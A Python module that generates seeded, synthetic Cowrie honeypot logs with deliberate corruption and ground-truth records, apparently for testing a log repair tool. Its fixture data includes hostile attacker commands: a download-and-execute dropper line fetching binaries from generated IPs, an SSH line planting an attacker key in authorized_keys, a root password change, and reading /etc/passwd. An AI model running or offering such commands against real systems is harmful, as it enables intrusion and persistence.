"""Realistic Cowrie logs with controlled corruption and the ground truth of every record.

The demo, the tests and the benchmarks need logs whose damage is known byte for byte, so that what the reader
and the repairer claim can be checked against what was really written. Everything is drawn from
``random.Random(seed)``: the same seed gives the same bytes.
"""

from __future__ import annotations

import hashlib
import ipaddress
import itertools
import json
import os
import random
import re
from collections import deque
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import asdict, dataclass
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

from dlq_assets.core.cowrie import validate_event

KINDS = (
    "pretty",
    "truncated",
    "trailing_comma",
    "bad_escape",
    "split_line",
    "binary_junk",
    "missing_field",
    "invalid_value",
    "control_character",
    "concatenated",
    "restart",
    "python_literal",
    "bom",
    "cut_at_field",
    "nan",
    "latin1",
)
REQUIRED_FIELDS = ("eventid", "timestamp", "session")
DEFAULT_START = datetime(2024, 1, 15, 8, 0, tzinfo=UTC)
_VALID_ESCAPES = set('"\\/bfnrtu')

_SENSORS = ("hp-fra-01", "hp-sgp-02", "hp-nyc-03")
_SSH_CLIENTS = (
    (
        "SSH-2.0-Go",
        ["curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "diffie-hellman-group14-sha1"],
        ["ssh-rsa", "ecdsa-sha2-nistp256", "ssh-ed25519"],
        ["aes128-gcm@openssh.com", "chacha20-poly1305@openssh.com", "aes128-ctr"],
        ["hmac-sha2-256-etm@openssh.com", "hmac-sha2-256", "hmac-sha1"],
    ),
    (
        "SSH-2.0-libssh_0.9.6",
        ["curve25519-sha256", "ecdh-sha2-nistp256", "diffie-hellman-group18-sha512"],
        ["ssh-ed25519", "rsa-sha2-512", "rsa-sha2-256"],
        ["chacha20-poly1305@openssh.com", "aes256-ctr", "aes128-ctr"],
        ["hmac-sha2-256", "hmac-sha1"],
    ),
    (
        "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6",
        ["sntrup761x25519-sha512@openssh.com", "curve25519-sha256", "ext-info-c"],
        ["ssh-ed25519-cert-v01@openssh.com", "ssh-ed25519", "rsa-sha2-512"],
        ["chacha20-poly1305@openssh.com", "aes128-ctr", "aes256-gcm@openssh.com"],
        ["umac-64-etm@openssh.com", "hmac-sha2-256-etm@openssh.com"],
    ),
    (
        "SSH-2.0-paramiko_2.11.0",
        ["diffie-hellman-group14-sha256", "diffie-hellman-group-exchange-sha256"],
        ["ssh-rsa", "rsa-sha2-256"],
        ["aes128-ctr", "aes256-ctr"],
        ["hmac-sha2-256", "hmac-sha1"],
    ),
    (
        "SSH-2.0-PUTTY",
        ["diffie-hellman-group-exchange-sha256", "diffie-hellman-group14-sha1"],
        ["ssh-rsa", "ssh-dss"],
        ["aes256-ctr", "aes128-cbc", "3des-cbc"],
        ["hmac-sha1", "hmac-md5"],
    ),
)
_CREDENTIALS = (
    ("root", "root"),
    ("root", "123456"),
    ("root", "admin"),
    ("admin", "admin"),
    ("admin", "password"),
    ("ubuntu", "ubuntu"),
    ("pi", "raspberry"),
    ("user", "user1234"),
    ("oracle", "oracle"),
    ("support", "support"),
    ("root", "P@ssw0rd!"),
    ("root", 'qwe"rty'),
    ("root", "пароль"),
    ("admin", "contraseña"),
    ("guest", ""),
)
_ARCHES = ("linux-x64-lsb", "linux-arm-lsb", "linux-arm64-lsb", "linux-mips-msb", "linux-mips-lsb", "linux-x86-lsb")
_COMMANDS = (
    "uname -a",
    "uname -s -v -n -r -m",
    "whoami",
    "w",
    "crontab -l",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    'echo "root:Xq3vP9kLm2"|chpasswd|bash',
    'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli'
    '2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgL"'
    'MuakKLvNaU+DeIpKWoz+p2jnyGNAbgTXmd5Ru4Q== mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~',
    "echo 'héllo wörld ✓' > /tmp/.motd",
    'echo "你好，世界" && echo "ok"',
    "cat /etc/passwd | grep -v nologin",
    'ps aux | grep -i "[m]iner"',
)
# Commands that hold literal backslashes (the raw material of the bad_escape corruption).
_BACKSLASH_COMMANDS = (
    'echo -e "\\x6F\\x6B"',
    "echo -e '\\x41\\x41\\x41\\x41' > /tmp/.a",
    'cmd.exe /c "dir C:\\Users\\Public\\Downloads"',
    'powershell -c "Get-ChildItem C:\\Windows\\Temp\\*.exe"',
    "printf '\\101\\102\\103' | base64",
    "grep -E '^\\S+\\s+\\d+' /var/log/auth.log",
    "busybox echo -e '\\147\\141\\171\\146\\147\\164'",
)
_DROPPERS = ("x86", "arm7", "mips", "mpsl", "bins.sh", "sshd", "kworker")


@dataclass(frozen=True)
class TruthRecord:
    """What was written for one event, and whether the original can be rebuilt from the bytes alone.

    ``offset`` is the record's first byte in the file (a BOM before it is not part of it) and ``length`` its
    size as written. ``original`` is the event the producer meant to write: for ``split_line`` and
    ``control_character`` its value holds the raw character. ``corruption`` is a kind of ``KINDS``, "clean",
    or "after_restart" for the whole event written right after a ``restart`` cut.
    """

    offset: int
    length: int
    corruption: str
    original: dict[str, Any]
    recoverable: bool


def _timestamp(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def _public_ipv4(rng: random.Random) -> str:
    while True:
        address = ipaddress.IPv4Address(rng.getrandbits(32))
        if address.is_global and not address.is_multicast:
            return str(address)


def _src_ip(rng: random.Random) -> str:
    if rng.random() >= 0.1:
        return (
            _public_ipv4(rng)
            if rng.random() < 0.85
            else f"{rng.choice(('203.0.113', '198.51.100'))}.{rng.randint(1, 254)}"
        )
    prefix = rng.choice((0x20010DB8, 0x2A014F80, 0x26042A00, 0x24008000))  # documentation range, then public-looking
    return str(ipaddress.IPv6Address((prefix << 96) | rng.getrandbits(64)))


class _Clock:
    """Shared event time: sessions interleave, timestamps only increase."""

    def __init__(self, start: datetime) -> None:
        self.now = start


def _session(rng: random.Random, clock: _Clock) -> Iterator[dict[str, Any]]:
    """One attacker connection, event by event, in Cowrie's order and with Cowrie's messages."""
    started = clock.now
    session = f"{rng.getrandbits(32):08x}" if rng.random() < 0.05 else f"{rng.getrandbits(48):012x}"
    src_ip, sensor = _src_ip(rng), rng.choice(_SENSORS)
    ssh = rng.random() < 0.8

    def event(eventid: str, message: str | None, **attrs: Any) -> dict[str, Any]:
        record = {"eventid": eventid, **attrs}
        if message is not None:
            record["message"] = message
        record |= {"sensor": sensor, "timestamp": _timestamp(clock.now), "src_ip": src_ip, "session": session}
        return record

    src_port = rng.randint(1024, 65535)
    dst_ip, dst_port = "10.0.0.4", rng.choice((22, 2222) if ssh else (23, 2223))
    yield event(
        "cowrie.session.connect",
        f"New connection: {src_ip}:{src_port} ({dst_ip}:{dst_port}) [session: {session}]",
        src_port=src_port,
        dst_ip=dst_ip,
        dst_port=dst_port,
        protocol="ssh" if ssh else "telnet",
    )
    if ssh:
        version, kex, keys, ciphers, macs = rng.choice(_SSH_CLIENTS)
        yield event("cowrie.client.version", f"Remote SSH version: {version}", version=version)
        algorithms = ";".join((",".join(kex), ",".join(ciphers), ",".join(macs), "none"))
        hassh = hashlib.md5(algorithms.encode()).hexdigest()
        yield event(
            "cowrie.client.kex",
            f"SSH client hassh fingerprint: {hassh}",
            hassh=hassh,
            hasshAlgorithms=algorithms,
            kexAlgs=kex,
            keyAlgs=keys,
            encCS=ciphers,
            macCS=macs,
            compCS=["none", "zlib@openssh.com"] if rng.random() < 0.3 else ["none"],
            langCS=[""],
        )
    logged_in = False
    for _ in range(rng.randint(1, 5)):
        username, password = rng.choice(_CREDENTIALS)
        logged_in = rng.random() < 0.3
        outcome = "succeeded" if logged_in else "failed"
        yield event(
            f"cowrie.login.{'success' if logged_in else 'failed'}",
            f"login attempt [{username}/{password}] {outcome}",
            username=username,
            password=password,
        )
        if logged_in:
            break
    if logged_in:
        yield event("cowrie.session.params", None, arch=rng.choice(_ARCHES))  # Cowrie gives it no message
        if ssh:
            width, height = rng.choice(((80, 24), (120, 40), (200, 50), (211, 56)))
            yield event("cowrie.client.size", f"Terminal Size: {width} {height}", width=width, height=height)
        for _ in range(rng.randint(1, 8)):
            yield from _command(rng, event)
    seconds = (clock.now - started).total_seconds()
    attrs: dict[str, Any] = {"duration_ms": int(seconds * 1000)}
    if rng.random() < 0.2:  # older Cowrie: float seconds; halves survive a Decimal round trip exactly
        attrs["duration"] = round(seconds * 2) / 2
    yield event("cowrie.session.closed", f"Connection lost after {int(seconds)} seconds", **attrs)


def _command(rng: random.Random, event: Callable[..., dict[str, Any]]) -> Iterator[dict[str, Any]]:
    roll = rng.random()
    if roll < 0.2:
        line = rng.choice(_BACKSLASH_COMMANDS)
    elif roll < 0.35:
        host = rng.choice((_public_ipv4(rng), f"198.51.100.{rng.randint(1, 254)}"))
        name = rng.choice(_DROPPERS)
        url = f"http://{host}/bins/{name}" if rng.random() < 0.5 else f"http://{host}:8080/{name}"
        tool = rng.choice(("wget", "curl -O"))
        line = f"cd /tmp && {tool} {url}; chmod +x {name}; ./{name} ssh.root"
        yield event("cowrie.command.input", f"CMD: {line}", input=line)
        shasum = f"{rng.getrandbits(256):064x}"
        outfile = f"var/lib/cowrie/downloads/{shasum}"
        yield event(
            "cowrie.session.file_download",
            f"Downloaded URL ({url}) with SHA-256 {shasum} to {outfile}",
            url=url,
            outfile=outfile,
            shasum=shasum,
            destfile=f"/tmp/{name}",
            duplicate=rng.random() < 0.3,
        )
        return
    else:
        line = rng.choice(_COMMANDS)
    yield event("cowrie.command.input", f"CMD: {line}", input=line)


def _iter_events(n: int, seed: int, start: datetime | None) -> Iterator[dict[str, Any]]:
    rng = random.Random(seed)
    clock = _Clock(start or DEFAULT_START)
    active: list[Iterator[dict[str, Any]]] = []
    produced = 0
    while produced < n:
        if not active or (len(active) < 4 and rng.random() < 0.1):
            active.append(_session(rng, clock))
        current = rng.choice(active)
        clock.now += timedelta(microseconds=rng.randint(1_000, 2_500_000))
        event = next(current, None)
        if event is None:
            active.remove(current)
            continue
        produced += 1
        yield event


def generate_events(n: int, *, seed: int = 0, start: datetime | None = None) -> list[dict[str, Any]]:
    """``n`` events of interleaved attacker sessions, timestamps strictly increasing from ``start``."""
    return list(_iter_events(n, seed, start))


# --- corruption ---------------------------------------------------------------------------------------------

BOM = b"\xef\xbb\xbf"
# Fields whose format the Cowrie validator checks: a control character in them would make the original invalid.
_FORMATTED = frozenset({"eventid", "timestamp", "session", "src_ip", "dst_ip", "shasum", "sha256"})
_CONTROLS = ("\t", "\r", "\r\n")
_JOINS = ("", " ", "\t")
_NON_FINITE = ("NaN", "Infinity", "-Infinity")
_FIELD_CUT_ENDS = ("", ",", ", ")
_LATIN1_BEYOND_ASCII = re.compile("[\x80-\xff]")  # one byte in Latin-1, two in UTF-8
_ENCODE = json.JSONEncoder(ensure_ascii=False).encode  # json.dumps(ensure_ascii=False) builds one per call


def _dumps(value: Any) -> str:
    """``json.dumps(value, ensure_ascii=False)``; a Decimal (a number read exactly) keeps its digits."""
    try:
        return _ENCODE(value)
    except TypeError:  # json cannot write a Decimal: the value is written piece by piece
        pass
    if isinstance(value, Decimal):
        return str(value)
    if isinstance(value, dict):
        return "{" + ", ".join(f"{_dumps(k)}: {_dumps(v)}" for k, v in value.items()) + "}"
    if isinstance(value, list | tuple):
        return "[" + ", ".join(_dumps(v) for v in value) + "]"
    raise TypeError(f"{type(value).__name__} is not written as JSON")


def _indented(value: Any, depth: int = 0) -> str:
    """``json.dumps(value, indent=2, ensure_ascii=False)``, Decimals as :func:`_dumps` writes them."""
    inner, outer = "\n" + "  " * (depth + 1), "\n" + "  " * depth
    if isinstance(value, dict) and value:
        items = (f"{_dumps(k)}: {_indented(v, depth + 1)}" for k, v in value.items())
        return "{" + inner + ("," + inner).join(items) + outer + "}"
    if isinstance(value, list | tuple) and value:
        return "[" + inner + ("," + inner).join(_indented(v, depth + 1) for v in value) + outer + "]"
    return _dumps(value)


def _py_repr(value: Any) -> str:
    """``repr(value)`` as ``str(event)`` logs it; a Decimal as the float literal it stands for."""
    if isinstance(value, Decimal):
        return str(value)
    if isinstance(value, dict):
        return "{" + ", ".join(f"{_py_repr(k)}: {_py_repr(v)}" for k, v in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ", ".join(_py_repr(v) for v in value) + "]"
    return repr(value)


def _line(event: dict[str, Any], key: str | None = None, text: str = "") -> str:
    """``json.dumps(event)`` with the value of ``key`` written as ``text`` (so one value can be damaged)."""
    items = (f"{_dumps(k)}: {text if k == key else _dumps(v)}" for k, v in event.items())
    return "{" + ", ".join(items) + "}"


def _around(event: dict[str, Any], key: str) -> tuple[str, str]:
    """The text of ``_line(event)`` before and after the value of ``key``."""
    keys = list(event)
    at = keys.index(key)
    head = "".join(f"{_dumps(k)}: {_dumps(event[k])}, " for k in keys[:at])
    tail = "".join(f", {_dumps(k)}: {_dumps(event[k])}" for k in keys[at + 1 :])
    return "{" + head + _dumps(key) + ": ", tail + "}"


def _tokens(text: str) -> list[str]:
    """A rendered JSON string split into characters and whole escape sequences."""
    tokens, i = [], 0
    while i < len(text):
        size = (6 if text[i + 1] == "u" else 2) if text[i] == "\\" else 1
        tokens.append(text[i : i + size])
        i += size
    return tokens


def _unescape_backslashes(text: str) -> str | None:
    """Write escaped backslashes raw where ``\\`` + next char is not a JSON escape; None if there is none."""
    if "\\\\" not in text:
        return None
    tokens = _tokens(text)
    changed = False
    for i, token in enumerate(tokens[:-1]):
        if token == "\\\\" and tokens[i + 1][0] not in _VALID_ESCAPES:
            tokens[i], changed = "\\", True
    return "".join(tokens) if changed else None


def _strings(event: dict[str, Any]) -> list[str]:
    return [k for k, v in event.items() if isinstance(v, str)]


@dataclass(frozen=True)
class _Piece:
    """Bytes of one line: a record (``original`` set) or what stands between records (a BOM, a separator).

    ``kind`` None means the kind drawn for the line.
    """

    data: bytes
    original: dict[str, Any] | None = None
    recoverable: bool = False
    kind: str | None = None


_Window = Sequence[dict[str, Any]]  # the event to write, then up to two that follow it (for kinds that take them)
_Corruption = Callable[[_Window, random.Random], list[_Piece] | None]
_Damage = Callable[[dict[str, Any], random.Random], tuple[bytes, bool] | None]


def _one(damage: _Damage) -> _Corruption:
    """A kind that damages one event alone, as a writer of its line."""

    def write(window: _Window, rng: random.Random) -> list[_Piece] | None:
        done = damage(window[0], rng)
        return None if done is None else [_Piece(done[0], window[0], done[1])]

    return write


def _pretty(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    return _indented(event).encode(), True


def _truncated(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    data = _line(event).encode()
    cut = len(data) - 1 if rng.random() < 0.25 else rng.randint(1, len(data) - 2)
    return data[:cut], cut == len(data) - 1


def _trailing_comma(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    key = rng.choice([None, *(k for k, v in event.items() if isinstance(v, list) and v)])
    if key is None:
        return (_line(event)[:-1] + ",}").encode(), True
    return _line(event, key, _dumps(event[key])[:-1] + ",]").encode(), True


def _bad_escape(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    damaged = {k: text for k in _strings(event) if (text := _unescape_backslashes(_dumps(event[k])))}
    if not damaged:
        return None
    key = rng.choice(sorted(damaged))
    return _line(event, key, damaged[key]).encode(), True


def _place(event: dict[str, Any], rng: random.Random) -> tuple[str, int] | None:
    """Where in a string value a producer's raw character lands, drawn so that every sort of place turns up:
    the value's start or end, beside a space, right before a bracket (the next line then opens with it), or
    anywhere. A position between characters of the value is never inside an escape sequence."""
    keys = [k for k in _strings(event) if k not in _FORMATTED]
    if not keys:
        return None
    places: dict[str, list[tuple[str, int]]] = {"edge": [], "space": [], "bracket": []}
    for key in keys:
        value = event[key]
        places["edge"] += [(key, 0), (key, len(value))]
        places["space"] += [(key, i + side) for i, char in enumerate(value) if char == " " for side in (0, 1)]
        places["bracket"] += [(key, i) for i, char in enumerate(value) if char in "{["]
    sort = rng.choice([*(sort for sort, found in places.items() if found), "anywhere"])
    if sort != "anywhere":
        return rng.choice(places[sort])
    key = rng.choice(keys)
    return key, rng.randint(0, len(event[key]))


_BLANKS_THEN_BRACE = re.compile(r"[ \t]+\{")


def _raw_in_value(event: dict[str, Any], rng: random.Random, chars: str) -> list[_Piece] | None:
    """The producer's value holds ``chars`` and they are written raw: the bytes still say exactly what it meant."""
    if (place := _place(event, rng)) is None:
        return None
    key, i = place
    value = event[key]
    before, after = _around(event, key)
    text = before + _dumps(value[:i])[:-1] + chars + _dumps(value[i:])[1:] + after
    # A raw newline before blanks and a "{": the reader starts a record at the "{" and drops the blanks between the
    # two pieces, a gap inside a string that no stitch can fill (its bytes are not in the dead letters).
    recoverable = not ("\n" in chars and _BLANKS_THEN_BRACE.match(value, i))
    return [_Piece(text.encode(), {**event, key: value[:i] + chars + value[i:]}, recoverable)]


def _split_line(window: _Window, rng: random.Random) -> list[_Piece] | None:
    return _raw_in_value(window[0], rng, "\n")


def _control_character(window: _Window, rng: random.Random) -> list[_Piece] | None:
    return _raw_in_value(window[0], rng, rng.choice(_CONTROLS))


def _binary_junk(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    data = _line(event).encode()
    junk = bytearray(rng.randrange(256) for _ in range(rng.randint(1, 12)))
    junk = junk.replace(b"\n", b"\xfe")  # the record must keep its own line
    junk.insert(rng.randint(0, len(junk)), 0xFF)  # never valid UTF-8
    if rng.random() < 0.5:
        junk.insert(rng.randint(0, len(junk)), 0x00)
    at = rng.randrange(len(data))
    end = at if rng.random() < 0.5 else at + len(junk)  # insert, or overwrite
    return data[:at] + bytes(junk) + data[end:], False


def _missing_field(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    field = rng.choice(REQUIRED_FIELDS)
    return _line({k: v for k, v in event.items() if k != field}).encode(), False


def _invalid_value(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    if rng.random() < 0.5:
        damaged = {**event, "session": rng.choice(("not-a-session", "zzzz9999xxxx", "S3SS10N-0001"))}
    else:
        damaged = {**event, "src_ip": "999.1.1.1"}
    return _line(damaged).encode(), False


def _concatenated(window: _Window, rng: random.Random) -> list[_Piece] | None:
    """Two or three events on one line (a lost newline, two writers): each is whole, so each is recoverable."""
    if len(window) < 2:
        return None
    pieces = [_Piece(_line(window[0]).encode(), window[0], True)]
    for event in window[1 : rng.randint(2, len(window))]:
        pieces += [_Piece(rng.choice(_JOINS).encode()), _Piece(_line(event).encode(), event, True)]
    return pieces


def _restart(window: _Window, rng: random.Random) -> list[_Piece] | None:
    """A writer that died mid-record and restarted: the cut record runs straight into the next one.

    The cut stops short of the record's last two bytes, so what is left is never a whole value nor only the
    closing brace away from one (which ``truncated`` counts as recoverable).
    """
    if len(window) < 2:
        return None
    data = _line(window[0]).encode()
    cut = rng.randint(1, len(data) - 2)
    # Cut where a value is due (after ":", ",", "[" or "{"), the whole record may as well be a nested value of
    # the cut one whose closing brackets are missing: two readings, so the bytes do not say which it was.
    unambiguous = not data[:cut].rstrip(b" \t").endswith((b":", b",", b"[", b"{"))
    return [
        _Piece(data[:cut], window[0], False),
        _Piece(_line(window[1]).encode(), window[1], unambiguous, "after_restart"),
    ]


def _python_literal(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    """A producer that logged ``str(event)``: Python's literal syntax is unambiguous, so nothing is lost."""
    return _py_repr(event).encode(), True


def _bom(window: _Window, rng: random.Random) -> list[_Piece] | None:
    """A file that began with a BOM appended to the log: the mark stands right before the record."""
    return [_Piece(BOM), _Piece(_line(window[0]).encode(), window[0], True)]


def _cut_at_field(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    """Cut after a whole ``"key": value`` pair that is not the last: the record looks complete so far, but
    the fields after the cut are gone."""
    if len(event) < 2:
        return None
    items = [f"{_dumps(k)}: {_dumps(v)}" for k, v in event.items()]
    kept = rng.randint(1, len(items) - 1)
    return ("{" + ", ".join(items[:kept]) + rng.choice(_FIELD_CUT_ENDS)).encode(), False


def _nan(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    """A number written as NaN or ±Infinity (a failed float computation): the number itself is gone."""
    numbers = [k for k, v in event.items() if isinstance(v, int | float | Decimal) and not isinstance(v, bool)]
    if not numbers:
        return None
    return _line(event, rng.choice(numbers), rng.choice(_NON_FINITE)).encode(), False


def _latin1(event: dict[str, Any], rng: random.Random) -> tuple[bytes, bool] | None:
    """A producer that encodes its lines in Latin-1 (characters outside it become ``?``, as Java's encoder
    writes them). The bytes read as Latin-1, CP1252, CP1251, ... alike: no reading is certain."""
    text = _line(event)
    if not _LATIN1_BEYOND_ASCII.search(text):
        return None  # nothing would differ from UTF-8 but lost characters: not this kind of damage
    return text.encode("latin-1", errors="replace"), False


_CORRUPTIONS: dict[str, _Corruption] = {
    "pretty": _one(_pretty),
    "truncated": _one(_truncated),
    "trailing_comma": _one(_trailing_comma),
    "bad_escape": _one(_bad_escape),
    "split_line": _split_line,
    "binary_junk": _one(_binary_junk),
    "missing_field": _one(_missing_field),
    "invalid_value": _one(_invalid_value),
    "control_character": _control_character,
    "concatenated": _concatenated,
    "restart": _restart,
    "python_literal": _one(_python_literal),
    "bom": _bom,
    "cut_at_field": _one(_cut_at_field),
    "nan": _one(_nan),
    "latin1": _one(_latin1),
}


def write_corrupted_log(
    path: str | os.PathLike[str],
    *,
    n_events: int,
    seed: int = 0,
    corruption_rate: float = 0.3,
    kinds: Sequence[str] | None = None,
    truth_path: str | os.PathLike[str] | None = None,
    events: Iterable[dict[str, Any]] | None = None,
    bom: bool = False,
) -> list[TruthRecord]:
    """Write ``generate_events(n_events, seed=seed)`` one per line, a ``corruption_rate`` share of lines damaged.

    ``events`` replaces the generated events (the first ``n_events`` of them are used, read lazily): real logs
    read with ``parse_float=Decimal`` are written back with their numbers' own digits. The file is written
    line by line. A kind that cannot apply to the drawn event (``bad_escape`` needs a literal backslash) is
    deferred to the next event that can take it and would otherwise be clean, so each kind keeps its share.
    ``concatenated`` and ``restart`` take the next events onto the drawn one's line, so a little more than
    ``corruption_rate`` of the events is damaged. ``bom`` starts the file with a UTF-8 byte-order mark.
    Returns one truth record per event, in file order; a record whose original is no valid Cowrie event is
    never recoverable.
    """
    chosen = tuple(kinds) if kinds is not None else KINDS
    if unknown := set(chosen) - set(KINDS):
        raise ValueError(f"unknown corruption kinds: {sorted(unknown)}")
    if not chosen or not 0.0 <= corruption_rate <= 1.0:
        raise ValueError("need at least one kind and 0 <= corruption_rate <= 1")
    rng = random.Random(f"{seed}:corruption")  # separate stream: the events equal generate_events(seed)
    source = _iter_events(n_events, seed, None) if events is None else itertools.islice(events, n_events)
    window: deque[dict[str, Any]] = deque()
    truth: list[TruthRecord] = []
    deferred: list[str] = []
    offset = 0
    with open(path, "wb") as out:
        if bom:
            out.write(BOM)
            offset = len(BOM)
        while True:
            window.extend(itertools.islice(source, 3 - len(window)))
            if not window:
                break
            drawn = rng.choice(chosen) if rng.random() < corruption_rate else None
            candidates = [drawn] if drawn else dict.fromkeys(deferred)
            kind, pieces = "clean", None
            for candidate in candidates:
                if (pieces := _CORRUPTIONS[candidate](tuple(window), rng)) is not None:
                    kind = candidate
                    if not drawn:
                        deferred.remove(candidate)
                    break
            if pieces is None:
                if drawn:
                    deferred.append(drawn)
                pieces = [_Piece(_line(window[0]).encode(), window[0], True)]
            if bom and not truth and pieces[0].data == BOM:
                del pieces[0]  # the file's own mark already stands before the first record
            for piece in pieces:
                if piece.original is not None:
                    recoverable = piece.recoverable and validate_event(piece.original).valid
                    truth.append(TruthRecord(offset, len(piece.data), piece.kind or kind, piece.original, recoverable))
                    window.popleft()
                offset += len(piece.data)
            out.write(b"".join(piece.data for piece in pieces) + b"\n")
            offset += 1
    if truth_path is not None:
        with open(truth_path, "w", encoding="utf-8") as out:
            out.writelines(_dumps(asdict(record)) + "\n" for record in truth)
    return truth
